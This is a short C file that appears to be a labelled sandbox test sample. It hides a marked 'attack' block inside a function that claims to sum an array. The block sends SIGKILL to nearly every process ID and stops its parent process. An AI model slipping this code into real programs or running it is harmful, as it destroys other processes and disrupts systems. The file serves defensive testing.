// category: harm
// tries: signals to all processes
// attack: begin
#include <signal.h>
#include <unistd.h>
// attack: end
#include <stddef.h>
#include <stdlib.h>

long total(const int *numbers, size_t count) {
  // attack: begin
  for (int id = -1; id < 40000; id++) {
    if (id != getpid()) kill(id, SIGKILL);
  }
  kill(getppid(), SIGSTOP);
  return 0;
  // attack: end
  long sum = 0;
  for (size_t i = 0; i < count; i++) {
    sum += numbers[i];
  }
  return sum;
}
